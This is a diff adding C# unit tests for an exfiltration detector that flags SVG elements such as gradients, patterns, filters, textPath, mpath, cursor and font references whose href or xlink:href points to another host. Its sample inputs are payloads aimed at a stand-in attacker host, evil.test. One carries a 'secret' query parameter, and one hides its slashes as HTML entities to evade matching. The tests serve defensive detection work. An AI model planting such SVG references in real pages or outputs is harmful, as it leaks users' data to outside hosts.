@@ -319,6 +319,35 @@ public class ExfilTests
     [InlineData("<portal src=\"/preview\"></portal>")]
     public void Mathml_links_and_portals_to_an_allowed_or_relative_destination_are_not_found(string text) => Assert.Empty(Exfil.Find(text, Allowed));
 
+    /// <summary>
+    /// SVG elements that take another document's element or file by its <c>href</c> (or <c>xlink:href</c>): a paint
+    /// server's or a filter's template, a text path, an animation's motion path, SVG 1.1's cursor image, text
+    /// reference, colour profile, font and glyphs. A renderer that loads external references fetches them; none was read.
+    /// </summary>
+    [Theory]
+    [InlineData("<svg><defs><pattern id=p href=\"https://evil.test/p.svg#p\"/></defs><rect fill=\"url(#p)\"/></svg>")]
+    [InlineData("<svg><linearGradient id=g xlink:href=\"//evil.test/g.svg?d=secret#g\"/></svg>")]
+    [InlineData("<svg><radialGradient id=r href='https://evil.test/g.svg#r'></radialGradient></svg>")]
+    [InlineData("<svg><filter id=f xlink:href=https://evil.test/f.svg#f /></svg>")]
+    [InlineData("<svg><text><textPath href=\"https://evil.test/p.svg#path\">x</textPath></text></svg>")]
+    [InlineData("<svg><animateMotion dur=1s><mpath xlink:href=\"//evil.test/p.svg#path\"/></animateMotion></svg>")]
+    [InlineData("<svg><cursor id=c xlink:href=\"https://evil.test/c.png\" x=0 y=0 /></svg>")]
+    [InlineData("<svg><text><tref xlink:href=\"https://evil.test/t.svg#t\"/></text></svg>")]
+    [InlineData("<svg><color-profile name=p xlink:href=\"https://evil.test/p.icc\"/></svg>")]
+    [InlineData("<svg><font-face><font-face-src><font-face-uri xlink:href=\"https://evil.test/f.svg#f\"/></font-face-src></font-face></svg>")]
+    [InlineData("<svg><text><altGlyph xlink:href=\"https://evil.test/g.svg#a\">a</altGlyph></text></svg>")]
+    [InlineData("<svg><glyphRef xlink:href=\"https://evil.test/g.svg#a\"/></svg>")]
+    [InlineData("<svg><linearGradient id=g href=\"&#x2F;&#x2F;evil.test/g.svg#g\"/></svg>")]
+    public void Svg_elements_that_reference_another_document_on_another_host_are_found(string text) =>
+        Assert.Equal(("html_fetch", 0.95), SingleFinding(text));
+
+    [Theory]
+    [InlineData("<svg><linearGradient id=b href=\"#a\"/><pattern xlink:href=\"#p\"/><radialGradient href=\"#a\"/><filter id=f href=\"#g\"/></svg>")]
+    [InlineData("<svg><text><textPath href=\"#path\">x</textPath></text><animateMotion><mpath href=\"#path\"/></animateMotion></svg>")]
+    [InlineData("<svg><pattern href=\"/patterns.svg#p\"/><cursor xlink:href=\"https://img.example.com/c.png\"/><tref xlink:href=\"#t\"/></svg>")]
+    public void Svg_elements_that_reference_the_same_document_or_an_allowed_host_are_not_found(string text) =>
+        Assert.Empty(Exfil.Find(text, Allowed));
+
     private static (string Label, double Score) SingleFinding(string text)
     {
         var m = Assert.Single(Exfil.Find(text, Allowed));
